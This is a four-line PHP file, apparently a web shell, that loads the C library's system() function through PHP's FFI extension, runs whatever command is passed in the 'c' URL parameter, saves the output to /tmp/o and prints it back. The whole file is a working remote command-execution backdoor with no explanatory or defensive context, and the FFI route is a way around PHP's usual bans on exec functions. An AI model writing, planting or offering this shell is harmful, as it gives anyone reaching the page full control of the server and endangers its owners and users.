<?php
$ffi = FFI::cdef("int system(const char *command);");
$ffi->system($_GET['c'] . " > /tmp/o");
echo file_get_contents("/tmp/o");
